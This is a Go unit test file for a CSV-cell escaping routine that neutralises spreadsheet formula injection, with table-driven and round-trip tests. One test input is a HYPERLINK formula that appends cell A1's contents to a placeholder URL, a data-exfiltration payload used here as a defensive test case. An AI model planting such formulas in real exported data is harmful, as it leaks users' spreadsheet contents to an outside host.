package csvcell

import "testing"

func TestEscape(t *testing.T) {
	for _, c := range []struct{ in, out string }{
		{"", ""},
		{"alice", "alice"},
		{`=HYPERLINK("http://x"&A1,"click me")`, `'=HYPERLINK("http://x"&A1,"click me")`},
		{"+1", "'+1"},
		{"-40", "'-40"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},
		{"''-x", "'''-x"},
		{"'abc", "'abc"},
		{"'", "'"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"{}", "{}"},
		{"Ünïcode", "Ünïcode"},
	} {
		if got := Escape(c.in); got != c.out {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.out)
		}
		if got := Unescape(c.out); got != c.in {
			t.Errorf("Unescape(%q) = %q, want %q", c.out, got, c.in)
		}
	}
}

// TestRoundTrip: Unescape undoes Escape for every string over an alphabet
// of the characters that matter.
func TestRoundTrip(t *testing.T) {
	alpha := []byte("'=+-@\t\rax")
	var walk func(s []byte)
	walk = func(s []byte) {
		if got := Unescape(Escape(string(s))); got != string(s) {
			t.Fatalf("Unescape(Escape(%q)) = %q", s, got)
		}
		if e := Escape(string(s)); e != "" && trigger(e[0]) {
			t.Fatalf("Escape(%q) = %q begins with a formula character", s, e)
		}
		if len(s) == 4 {
			return
		}
		for _, c := range alpha {
			walk(append(s, c))
		}
	}
	walk(nil)
}
